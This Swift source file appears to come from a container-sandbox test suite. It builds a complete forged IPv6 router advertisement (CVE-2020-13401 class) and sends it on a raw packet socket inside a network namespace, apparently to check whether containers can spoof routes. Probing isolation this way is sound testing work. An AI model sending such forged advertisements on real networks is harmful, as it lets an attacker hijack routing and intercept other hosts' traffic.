import BerthNamespace
import Foundation

/// A forged IPv6 router advertisement, as a process with CAP_NET_RAW inside a container can
/// send it on a packet socket (CVE-2020-13401 class): from a link-local router address, with
/// a router lifetime (a default route), the source's link-layer address and one /64 prefix
/// with the on-link and autonomous flags (SLAAC). The frame is built whole here, checksum
/// included, so nothing depends on tools in the container. The same packet as
/// scripts/facts/ipv6/forge.py's `ra`.
public struct RouterAdvertisement: Sendable {
    public var sourceMAC: [UInt8]
    /// The router's link-local address (16 bytes).
    public var router: [UInt8]
    /// The advertised /64 prefix (16 bytes).
    public var prefix: [UInt8]
    /// Seconds the sender is a default router for.
    public var routerLifetime: UInt16

    /// `sourceMAC` as `aa:bb:…`, addresses as IPv6 text.
    public init(sourceMAC: String, router: String = "fe80::bad", prefix: String, routerLifetime: UInt16 = 1800) throws {
        let octets = sourceMAC.split(separator: ":").compactMap { UInt8($0, radix: 16) }
        guard octets.count == 6 else { throw SandboxError("not a MAC address: \(sourceMAC)") }
        self.sourceMAC = octets
        self.router = try Self.bytes(router)
        self.prefix = try Self.bytes(prefix)
        self.routerLifetime = routerLifetime
    }

    static func bytes(_ text: String) throws -> [UInt8] {
        var address = in6_addr()
        guard inet_pton(AF_INET6, text, &address) == 1 else { throw SandboxError("not an IPv6 address: \(text)") }
        return withUnsafeBytes(of: &address) { Array($0) }
    }

    /// The Ethernet frame to ff02::1 (33:33:00:00:00:01).
    public var frame: [UInt8] {
        let allNodes: [UInt8] = [0xff, 0x02] + [UInt8](repeating: 0, count: 13) + [1]
        // ICMPv6 type 134, code 0, checksum, cur hop limit 64, flags 0, router lifetime,
        // reachable time 0, retrans timer 0.
        var body: [UInt8] = [134, 0, 0, 0, 64, 0, UInt8(routerLifetime >> 8), UInt8(routerLifetime & 0xff), 0, 0, 0, 0, 0, 0, 0, 0]
        // Option 1: source link-layer address (8 bytes).
        body += [1, 1] + sourceMAC
        // Option 3: prefix information (32 bytes): /64, on-link + autonomous, valid 86400 s,
        // preferred 14400 s, reserved, the prefix.
        body += [3, 4, 64, 0xC0] + Self.be32(86400) + Self.be32(14400) + Self.be32(0) + prefix
        // The checksum over the IPv6 pseudo-header (source, destination, length, next header 58).
        var pseudo = router + allNodes + Self.be32(UInt32(body.count)) + [0, 0, 0, 58]
        pseudo += body
        let sum = Self.checksum(pseudo)
        body[2] = UInt8(sum >> 8)
        body[3] = UInt8(sum & 0xff)
        // IPv6 header: version 6, payload length, next header 58 (ICMPv6), hop limit 255
        // (RFC 4861 drops an RA with any other).
        let header: [UInt8] = [0x60, 0, 0, 0, UInt8(body.count >> 8), UInt8(body.count & 0xff), 58, 255] + router + allNodes
        return [0x33, 0x33, 0, 0, 0, 1] + sourceMAC + [0x86, 0xdd] + header + body
    }

    /// Sends the frame on the interface with index `interfaceIndex` inside `namespace`, on a
    /// packet socket opened there.
    public func send(in namespace: NetworkNamespace, interfaceIndex: Int32) throws {
        let fd = try namespace.openSocket(domain: AF_PACKET, type: Int32(SOCK_RAW.rawValue), protocol: 0)
        defer { close(fd) }
        // struct sockaddr_ll (linux/if_packet.h, which Glibc's module leaves out), 20 bytes:
        // family, protocol (unused when sending), ifindex, hatype, pkttype, halen, addr[8].
        var address = [UInt8](repeating: 0, count: 20)
        withUnsafeBytes(of: UInt16(AF_PACKET)) { address.replaceSubrange(0..<2, with: $0) }
        withUnsafeBytes(of: interfaceIndex) { address.replaceSubrange(4..<8, with: $0) }
        address[11] = 6
        let frame = self.frame
        let sent = address.withUnsafeBytes { raw in
            frame.withUnsafeBytes { sendto(fd, $0.baseAddress, $0.count, 0, raw.baseAddress?.assumingMemoryBound(to: sockaddr.self), socklen_t(raw.count)) }
        }
        guard sent == frame.count else { throw SandboxError("sendto on a packet socket: \(String(cString: strerror(errno)))") }
    }

    static func be32(_ value: UInt32) -> [UInt8] {
        [UInt8(value >> 24), UInt8((value >> 16) & 0xff), UInt8((value >> 8) & 0xff), UInt8(value & 0xff)]
    }

    static func checksum(_ data: [UInt8]) -> UInt16 {
        var sum: UInt32 = 0
        var i = 0
        while i + 1 < data.count {
            sum += UInt32(data[i]) << 8 | UInt32(data[i + 1])
            i += 2
        }
        if i < data.count { sum += UInt32(data[i]) << 8 }
        while sum >> 16 != 0 { sum = (sum & 0xffff) + (sum >> 16) }
        return ~UInt16(sum)
    }
}
